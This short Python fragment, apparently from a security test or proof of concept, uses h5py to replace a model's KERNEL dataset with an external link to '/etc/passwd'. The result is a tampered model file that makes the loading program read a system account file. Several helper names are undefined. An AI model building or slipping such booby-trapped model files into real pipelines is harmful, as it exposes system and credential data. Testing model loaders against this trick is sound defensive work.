import h5py


def change(file):
    del file[KERNEL]
    file[KERNEL] = h5py.ExternalLink("/etc/passwd", "/")


def build_model():
    return handing_in(reweighted(change))
